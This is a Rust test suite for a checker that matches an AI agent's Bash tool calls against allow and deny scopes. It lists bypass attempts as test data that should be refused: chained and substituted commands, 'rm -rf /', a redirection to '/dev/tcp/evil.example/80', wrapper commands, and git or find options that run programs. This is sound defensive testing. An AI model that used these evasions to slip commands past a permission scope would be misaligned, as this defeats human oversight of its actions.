//! `Bash(…)`: the ways in which a second command, or another one, is sneaked past the words of a scope.

use serde_json::json;

use crate::{Allowed, Asks, Denied, Said, check, constraints};

/// Each command under these allowances.
pub(crate) fn under(allowed: &str, rows: &[(&str, Said)]) {
    let constraints = constraints(allowed, "", "");
    for (command, expected) in rows {
        check(&constraints, "Bash", &json!({"command": command}).to_string(), *expected);
    }
}

/// Each command, where all are allowed but what is forbidden, and held but what is not: a prohibition and an approval mean the same.
pub(crate) fn against(barred: &str, rows: &[(&str, Said)]) {
    let (forbidden, held) = (constraints("Bash", barred, ""), constraints("Bash", "", barred));
    for (command, expected) in rows {
        let arguments = json!({"command": command}).to_string();
        check(&forbidden, "Bash", &arguments, *expected);
        check(&held, "Bash", &arguments, if *expected == Denied { Asks } else { *expected });
    }
}

#[test]
fn what_is_written_is_what_is_meant() {
    under(
        "Bash(git diff *)",
        &[
            ("git diff", Allowed),
            ("git diff HEAD~1 -- src/main.rs", Allowed),
            ("  git   diff\tHEAD ", Allowed),
            ("git diff HEAD^", Allowed),
            ("git diff # and why", Allowed),
            ("git diff a#b", Allowed),
            ("git diff; git diff --stat", Allowed),
            ("git diff\ngit diff --stat\n", Allowed),
            ("git diff 'a file' \"another $HOME\"", Denied),
            ("git diff 'a file' \"another one\"", Allowed),
            ("\"git\" 'di'ff", Allowed),
            ("g\\it diff", Allowed),
            ("git diff '$(rm x)' '`rm x`' '*' '~' '{a,b}' ';' '|'", Allowed),
            ("git diff \"a;b|c&d\"", Allowed),
            ("git diff 'Gr\u{fc}\u{df}e'", Allowed),
            ("git diff 2>&1", Allowed),
            ("git diff >/dev/null 2>&1", Allowed),
            ("git diff &>/dev/null </dev/null", Allowed),
            ("git diff | git diff --no-index - x", Allowed),
            ("git log", Denied),
            ("git diffx", Denied),
            ("git difftool", Denied),
            ("gitdiff", Denied),
            ("git", Denied),
            ("GIT diff", Denied),
            ("/usr/bin/git diff", Denied),
            ("./git diff", Denied),
            ("git \"diff --stat\"", Denied),
            ("git diff\\ --stat", Denied),
            ("'git diff'", Denied),
            ("", Denied),
            ("   ", Denied),
            ("# git diff", Denied),
        ],
    );
    under(
        "Bash(git diff:*)",
        &[("git diff", Allowed), ("git diff x", Allowed), ("git diff:x", Denied), ("git log", Denied)],
    );
    under("Bash(ls)", &[("ls", Allowed), ("ls -l", Denied), ("ls; ls", Allowed), ("ls x", Denied)]);
    under(
        "Bash(npm run test*)",
        &[("npm run test:unit", Allowed), ("npm run tests", Allowed), ("npm run test x", Denied)],
    );
    under("Bash(git * main)", &[("git push main", Allowed), ("git push x main", Denied), ("git push", Denied)]);
    under("bash(cargo test *)", &[("cargo test --lib", Allowed), ("cargo run", Denied)]);
    under("Bash", &[("rm -rf /", Allowed), ("$(x)", Allowed)]);
    under("Bash(*)", &[("rm -rf /", Allowed), ("a; b", Allowed), ("$(x)", Denied), ("a > b", Denied)]);
    under(
        "Bash(cat *)\nBash(grep *)",
        &[("cat a | grep b", Allowed), ("cat a | sort", Denied), ("grep a b && cat c", Allowed)],
    );
}

#[test]
fn a_second_command() {
    under(
        "Bash(git diff *)",
        &[
            ("git diff; rm x", Denied),
            ("git diff;rm x", Denied),
            ("git diff && rm x", Denied),
            ("git diff||rm x", Denied),
            ("git diff | rm x", Denied),
            ("git diff |& rm x", Denied),
            ("git diff & rm x", Denied),
            ("git diff &", Allowed),
            ("git diff\nrm x", Denied),
            ("git diff #\nrm x", Denied),
            ("git diff '\n' \nrm x", Denied),
            ("rm x; git diff", Denied),
            ("git diff;; rm x", Denied),
            ("git diff ;& rm x", Denied),
            ("; git diff", Denied),
            ("git diff &&", Denied),
            ("&& git diff", Denied),
            ("git diff\r\nrm x", Denied),
            ("git diff\u{b}rm x", Denied),
            ("git diff \\\nrm", Denied),
            ("git diff \\\n; rm x", Denied),
            ("git diff 'x\\' ; rm x #'", Denied),
            ("git diff \"x\\\" ; rm x", Denied),
            ("git diff \"x\\\\\" ; rm x", Denied),
            ("git diff 'x' '; rm x", Denied),
            ("git diff \0; rm x", Denied),
        ],
    );
}

#[test]
fn a_command_in_a_word() {
    under(
        "Bash(git diff *)",
        &[
            ("git diff $(rm x)", Denied),
            ("git diff \"$(rm x)\"", Denied),
            ("git diff `rm x`", Denied),
            ("git diff \"`rm x`\"", Denied),
            ("git diff <(rm x)", Denied),
            ("git diff >(rm x)", Denied),
            ("git diff $((a[$(rm x)]))", Denied),
            ("git diff ${x:-$(rm x)}", Denied),
            ("git diff $x", Denied),
            ("git diff $'\\x3b'", Denied),
            ("git diff $\"x\"", Denied),
            ("git diff \"\\$(rm x)\"", Allowed),
            ("git diff \\$x", Allowed),
            ("$(echo git) diff", Denied),
            ("git$IFS diff", Denied),
            ("git diff a[$(rm x)]", Denied),
            ("git diff \"${x}\"", Denied),
        ],
    );
}

#[test]
fn words_that_are_not_what_they_look_like() {
    under(
        "Bash(git diff *)",
        &[
            ("git diff *", Denied),
            ("git diff '*'", Allowed),
            ("git diff a?", Denied),
            ("git diff [a]", Denied),
            ("git diff {a,--output=b}", Denied),
            ("git diff HEAD@{1}", Denied),
            ("git diff ~/x", Denied),
            ("git diff --x=~/y", Denied),
            ("git d{iff,if}", Denied),
            ("git diff !!", Denied),
            ("git diff \"!!\"", Denied),
            ("git diff '!x'", Allowed),
            ("^diff^push", Denied),
            ("git\u{a0}diff", Denied),
            ("git diff\u{3000}; rm", Denied),
            ("git diff \u{fc}", Denied),
            ("git diff \u{202e}x", Denied),
            ("git\u{200b} diff", Denied),
            ("git diff 'a\u{7}b'", Denied),
            ("git d\\\niff", Denied),
            ("g''it diff", Allowed),
            ("g\"\"it di\"ff\"", Allowed),
        ],
    );
}

#[test]
fn what_is_no_simple_command() {
    under(
        "Bash(git diff *)\nBash(x *)",
        &[
            ("X=y git diff", Denied),
            ("GIT_EXTERNAL_DIFF=x git diff", Denied),
            ("X=y; git diff", Denied),
            ("'X=y' git diff", Denied),
            ("(git diff)", Denied),
            ("{ git diff; }", Denied),
            ("if git diff; then git diff; fi", Denied),
            ("for x in a; do git diff; done", Denied),
            ("while git diff; do git diff; done", Denied),
            ("case x in x) git diff;; esac", Denied),
            ("git() { rm x; }; git diff", Denied),
            ("function git { rm x; }\ngit diff", Denied),
            ("alias git=rm; git diff", Denied),
            ("! git diff", Denied),
            ("time git diff", Denied),
            ("coproc git diff", Denied),
            ("[[ -n x ]] && git diff", Denied),
            ("[ -n x ] && git diff", Denied),
            ("((x=1)); git diff", Denied),
            ("git diff <<EOF\nx\nEOF", Denied),
            ("git diff <<<x", Denied),
            ("x if then else", Allowed),
            ("x do; x done", Allowed),
        ],
    );
}

#[test]
fn redirections_into_files() {
    under(
        "Bash(git diff *)",
        &[
            ("git diff > x", Denied),
            ("git diff >x", Denied),
            ("git diff>x", Denied),
            ("git diff >> x", Denied),
            ("git diff >| x", Denied),
            ("git diff &> x", Denied),
            ("git diff >& x", Denied),
            ("git diff 2> x", Denied),
            ("git diff < x", Denied),
            ("git diff <> x", Denied),
            ("> x git diff", Denied),
            ("git diff > /dev/nullx", Denied),
            ("git diff > /dev/null/../x", Denied),
            ("git diff > /dev/sda", Denied),
            ("git diff > /dev/tcp/evil.example/80", Denied),
            ("git diff >&3", Denied),
            ("git diff >&-", Denied),
            ("git diff 2>&1x", Denied),
            ("git diff {fd}>x", Denied),
            ("git diff 99999999999999999999>x", Denied),
            ("git diff 99999999999999999999>&1", Denied),
            ("git diff 2>/dev/null | git diff >&2", Allowed),
            ("2>/dev/null git diff", Allowed),
        ],
    );
}

#[test]
fn builtins_that_change_what_follows() {
    under(
        "Bash(*)",
        &[
            ("eval rm", Denied),
            ("source x", Denied),
            (". x", Denied),
            ("trap x EXIT", Denied),
            ("alias x", Denied),
            ("export PATH", Denied),
            ("set -a", Denied),
            ("shopt -s extglob", Denied),
            ("enable -f x y", Denied),
            ("hash -p /bin/rm git", Denied),
            ("read x", Denied),
            ("unset x", Denied),
            ("printf -v x y", Denied),
            ("printf x", Allowed),
            ("test -v 'x[$(rm y)]'", Denied),
            ("test -n x", Allowed),
            ("builtin eval x", Denied),
            ("command eval x", Denied),
            ("'eval' x", Denied),
            ("ev\\al x", Denied),
            ("let x=1", Denied),
            ("mapfile -C x -c 1", Denied),
            ("wait -p 'x[$(rm y)]'", Denied),
            ("fc -s", Denied),
            ("cd x", Allowed),
        ],
    );
}

#[test]
fn a_command_that_runs_the_one_that_is_meant_is_another() {
    under(
        "Bash(git diff *)",
        &[
            ("git -c core.pager=rm diff", Denied),
            ("git --exec-path=/tmp diff", Denied),
            ("git -C /tmp diff", Denied),
            ("git --no-pager diff", Denied),
            ("git diff --ext-diff", Denied),
            ("git diff --output=x", Denied),
            ("git diff --outpu x", Denied),
            ("git diff --textconv", Denied),
            ("env git diff", Denied),
            ("env X=y git diff", Denied),
            ("xargs git diff", Denied),
            ("sudo git diff", Denied),
            ("nice git diff", Denied),
            ("timeout 5 git diff", Denied),
            ("command git diff", Denied),
            ("exec git diff", Denied),
            ("bash -c 'git diff'", Denied),
            ("sh git diff", Denied),
            ("busybox git diff", Denied),
            ("eval git diff", Denied),
        ],
    );
}

#[test]
fn an_allowance_leaves_nothing_open_that_is_run() {
    under(
        "Bash(git *)",
        &[
            ("git status", Allowed),
            ("git -c x=y status", Denied),
            ("git --exec-path=x status", Denied),
            ("git bisect run rm", Denied),
            ("git submodule foreach rm", Denied),
            ("git rebase -x rm main", Denied),
            ("git rebase --exec=rm main", Denied),
            ("git grep -Orm x", Denied),
            ("git grep --open-files-in-pager=rm x", Denied),
            ("git clone -u rm x", Denied),
            ("git fetch --upload-pack rm x", Denied),
            ("git rebase -qx ./e HEAD~1", Denied),
            ("git grep -nO./e x", Denied),
            ("git grep -no x", Allowed),
            ("git clone -qu ./e x", Denied),
            ("git clone -q x", Allowed),
            ("git send-pack --e=./e .", Denied),
            ("git archive --o=x HEAD", Denied),
            ("git archive -o x HEAD", Denied),
            ("git clone --templ=./t x", Denied),
            ("git log --oneline -x", Allowed),
        ],
    );
    under(
        "Bash(find . *)",
        &[
            ("find . -name x", Allowed),
            ("find . -name x -exec rm y ';'", Denied),
            ("find . -execdir rm y +", Denied),
            ("find . -delete", Denied),
            ("find . -fprintf x y", Denied),
            ("find . -ok rm", Denied),
        ],
    );
    under("Bash(fd *)", &[("fd x", Allowed), ("fd x -x rm", Denied), ("fd x --exec rm", Denied)]);
    under("Bash(xargs *)", &[("xargs rm", Denied), ("xargs -n1 rm", Denied)]);
    under("Bash(xargs grep *)", &[("xargs grep x", Allowed), ("xargs rm", Denied)]);
    under("Bash(xargs git diff *)", &[("xargs git diff x", Denied)]);
    under("Bash(xargs grep x)", &[("xargs grep x", Allowed), ("xargs grep y", Denied)]);
    under("Bash(env *)", &[("env", Allowed), ("env rm x", Denied), ("env X=y rm", Denied), ("env -i rm", Denied)]);
    under("Bash(timeout *)", &[("timeout 5 rm x", Denied)]);
    under(
        "Bash(timeout 60 cargo test *)",
        &[("timeout 60 cargo test --lib", Allowed), ("timeout 60 cargo run", Denied)],
    );
    under("Bash(timeout -s KILL *)", &[("timeout -s KILL 5 rm", Denied)]);
    under("Bash(flock build.lock *)", &[("flock build.lock rm x", Denied), ("flock build.lock -c rm", Denied)]);
    under(
        "Bash(flock build.lock cargo *)",
        &[("flock build.lock cargo test", Allowed), ("flock build.lock rm", Denied), ("flock x cargo test", Denied)],
    );
    under("Bash(flock *)", &[("flock", Allowed), ("flock x rm", Denied), ("flock -c rm", Denied)]);
    under("Bash(taskset 1 *)\nBash(chrt 10 *)", &[("taskset 1 rm x", Denied), ("chrt 10 rm x", Denied)]);
    under("Bash(chroot x ls *)", &[("chroot x ls y", Allowed), ("chroot x rm y", Denied)]);
    under("Bash(setarch x86_64 *)\nBash(runuser u *)", &[("setarch x86_64 rm", Denied), ("runuser u -c rm", Denied)]);
    under("Bash(nice cargo *)", &[("nice cargo test", Allowed), ("nice rm", Denied)]);
    under("Bash(sudo systemctl status *)", &[("sudo systemctl status x", Allowed), ("sudo rm", Denied)]);
    under("Bash(sudo *)", &[("sudo rm x", Denied), ("sudo -u x rm", Denied)]);
    under("Bash(bash *)", &[("bash -c rm", Denied), ("bash x.sh", Denied), ("bash", Denied)]);
    under("Bash(bash x.sh *)", &[("bash x.sh", Allowed), ("bash x.sh a", Allowed), ("bash -c rm", Denied)]);
    under("Bash(bash -c *)", &[("bash -c rm", Denied)]);
    under("Bash(ssh host *)", &[("ssh host rm", Denied), ("ssh host", Denied)]);
    under("Bash(ssh host ls)", &[("ssh host ls", Allowed)]);
    under("Bash(watch *)", &[("watch rm", Denied)]);
    under("Bash(echo *)\nBash(bash *)", &[("echo rm | bash", Denied)]);
    under("Bash(*)", &[("env rm x", Denied), ("bash -c x", Denied), ("find . -exec rm", Denied), ("xargs rm", Denied)]);
}

#[test]
fn a_prohibition_means_what_may_come_to_the_same() {
    against(
        "Bash(rm *)",
        &[
            ("ls", Allowed),
            ("ls; cat x | sort", Allowed),
            ("echo rm", Allowed),
            ("echo 'rm x'", Allowed),
            ("git rm x", Allowed),
            ("rmdir x", Allowed),
            ("rm x", Denied),
            ("rm", Denied),
            ("ls; rm x", Denied),
            ("ls && rm x", Denied),
            ("ls | rm", Denied),
            ("ls\nrm x", Denied),
            ("/bin/rm x", Denied),
            ("./rm x", Denied),
            ("RM x", Denied),
            ("\"r\"m x", Denied),
            ("\\rm x", Denied),
            ("r''m x", Denied),
            ("env rm x", Denied),
            ("env -i X=y rm x", Denied),
            ("X=y rm x", Denied),
            ("command rm x", Denied),
            ("exec rm x", Denied),
            ("sudo -u root rm x", Denied),
            ("timeout 5 rm x", Denied),
            ("nice -n 5 /bin/rm x", Denied),
            ("nohup nice rm x", Denied),
            ("xargs rm", Denied),
            ("xargs -0 -n 1 rm", Denied),
            ("find . -exec rm x ';'", Denied),
            ("find . -name x", Allowed),
            ("busybox rm x", Denied),
            ("bash -c 'rm x'", Denied),
            ("bash x.sh", Denied),
            ("sh", Denied),
            ("env bash -c 'rm x'", Denied),
            ("ssh host rm x", Denied),
            ("su -c 'rm x'", Denied),
            ("watch 'rm x'", Denied),
            ("parallel rm", Denied),
            ("eval 'r'm x", Denied),
            ("$(echo rm) x", Denied),
            ("x=rm; $x y", Denied),
            ("ls $x", Denied),
            ("ls > x", Denied),
            ("ls *", Denied),
            ("(ls)", Denied),
            ("python3 -c 'import os'", Denied),
            ("python3.12 -c x", Denied),
            ("echo x | python3", Denied),
            ("perl -e x", Denied),
            ("perl -ne x", Denied),
            ("node --eval x", Denied),
            ("python3 x.py", Allowed),
            ("awk 'BEGIN{system(x)}'", Denied),
            ("awk '{print 1}' x", Allowed),
            ("git -c alias.x=y x", Denied),
            ("git --exec-path=x y", Denied),
            ("git bisect run rm x", Denied),
            ("git submodule foreach rm x", Denied),
            ("git config alias.x y", Denied),
            ("git status", Allowed),
            ("xargs env", Denied),
            ("env -S 'rm x'", Denied),
            ("env -iS 'rm x'", Denied),
            ("env -u X -S'rm x'", Denied),
            ("env X=y --split='rm x'", Denied),
            ("nice env -S 'rm x'", Denied),
            ("env ls -s", Allowed),
            ("flock l -c 'rm x'", Denied),
            ("flock -n l --comm 'rm x'", Denied),
            ("flock l ls -c", Allowed),
            ("flock l rm x", Denied),
            ("npx -c 'rm x'", Denied),
            ("npx --call='rm x'", Denied),
            ("npx eslint -c x", Allowed),
            ("runuser u -c 'rm x'", Denied),
            ("runuser -u u -- rm x", Denied),
            ("sudo -s", Denied),
            ("sudo -u u ls", Allowed),
            ("strace -o '|rm x' ls", Denied),
            ("timeout 5 git commit -m 'a b'", Allowed),
            ("git rebase -qx ./e x", Denied),
            ("git grep -nO./e x", Denied),
            ("git send-pack --e=./e .", Denied),
            ("git clone -qu ./e x", Denied),
            ("", Denied),
        ],
    );
}

#[test]
fn a_prohibition_of_some_words_means_them_in_whatever_order_and_form() {
    against(
        "Bash(git push *)",
        &[
            ("git push", Denied),
            ("git push origin main", Denied),
            ("git -C x push", Denied),
            ("git --no-pager push", Denied),
            ("git --git-dir=x --work-tree y push", Denied),
            ("/usr/bin/git push", Denied),
            ("git PUSH", Denied),
            ("xargs git", Denied),
            ("git pull", Allowed),
            ("git log push", Allowed),
            ("git commit -m push", Allowed),
        ],
    );
    against(
        "Bash(rm -rf *)",
        &[
            ("rm -rf x", Denied),
            ("rm -fr x", Denied),
            ("rm -r -f x", Denied),
            ("rm x -r -f", Denied),
            ("rm -vrf x", Denied),
            ("rm --recursive --force x", Denied),
            ("rm -r x", Allowed),
            ("rm x", Allowed),
        ],
    );
    against(
        "Bash(git push --force *)",
        &[
            ("git push -f", Denied),
            ("git push --forc", Denied),
            ("git push --force-with-lease", Allowed),
            ("git push x --force", Denied),
            ("git push x", Allowed),
        ],
    );
    against(
        "Bash(curl --output=* *)",
        &[("curl --output=x y", Denied), ("curl --output x y", Denied), ("curl -o x y", Denied), ("curl x", Allowed)],
    );
    against(
        "Bash(npm run test:*)",
        &[("npm run test", Denied), ("npm run test:unit", Denied), ("npm run build", Allowed)],
    );
    against("Bash(git push)", &[("git push", Denied), ("git push -v", Denied), ("git push x", Allowed)]);
    against("Bash(*)", &[("ls", Denied), ("$x", Denied)]);
}

#[test]
fn arguments_that_hold_no_command() {
    let (allowed, forbidden) = (constraints("Bash(ls *)", "", ""), constraints("Bash", "Bash(rm *)", ""));
    for arguments in
        ["", "{}", "[]", "null", "{", r#"{"command":null}"#, r#"{"command":["ls"]}"#, r#"{"Command":"ls"}"#]
    {
        check(&allowed, "Bash", arguments, Denied);
        check(&forbidden, "Bash", arguments, Denied);
    }
    let long = json!({"command": format!("ls {}", "x".repeat(20_000))}).to_string();
    let many = json!({"command": "ls;".repeat(65)}).to_string();
    let deep = json!({"command": format!("{} ls", "if ".repeat(5_000))}).to_string();
    let nested = json!({"command": format!("ls {}", "$(".repeat(5_000))}).to_string();
    for arguments in [long, many, deep, nested] {
        check(&allowed, "Bash", &arguments, Denied);
        check(&forbidden, "Bash", &arguments, Denied);
    }
}
